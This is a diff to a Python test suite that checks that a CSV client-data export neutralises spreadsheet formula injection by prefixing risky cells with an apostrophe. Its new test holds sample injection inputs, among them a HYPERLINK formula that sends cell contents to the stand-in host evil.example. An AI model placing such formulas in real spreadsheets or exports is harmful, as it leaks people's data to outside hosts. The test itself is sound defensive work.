@@ -66,10 +66,26 @@ def test_export_csv_lists_each_value_on_its_own_row(owner_client, business, url,
     assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
     rows = list(csv.reader(io.StringIO(response.content.decode())))
     assert rows[0] == ["section", "record_id", "field", "value"]
-    assert ["client", str(client.pk), "phone", "+447911123456"] in rows
+    # A leading "+" would make a spreadsheet read the cell as a formula: the apostrophe keeps it text.
+    assert ["client", str(client.pk), "phone", "'+447911123456"] in rows
+    assert ["client", str(client.pk), "completed_visits", "0"] in rows
     assert ["tags", str(client.pk), "tag", "VIP"] in rows
     assert ["bookings.Booking", str(booking.pk), "notes", "Please use the side door"] in rows
     assert AuditLog.objects.get(business=business, action="client.exported").payload == {"format": "csv"}
+
+
+def test_export_csv_neutralises_formulas_in_every_cell(owner_client, url, make_client, service, in_scope):
+    client = make_client(
+        '=HYPERLINK("https://evil.example/?"&A1)', "-2+3", notes="\tcmd", source_detail="@SUM(1)", tags=["+tag"]
+    )
+    rows = list(csv.reader(io.StringIO(owner_client.get(url("privacy_export_csv", client.pk)).content.decode())))
+    values = {(row[0], row[2]): row[3] for row in rows[1:]}
+    assert values[("client", "first_name")] == '\'=HYPERLINK("https://evil.example/?"&A1)'
+    assert values[("client", "last_name")] == "'-2+3"
+    assert values[("client", "notes")] == "'\tcmd"
+    assert values[("client", "source_detail")] == "'@SUM(1)"
+    assert values[("tags", "tag")] == "'+tag"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
 
 
 def test_erasure_removes_personal_data_and_keeps_the_accounts(
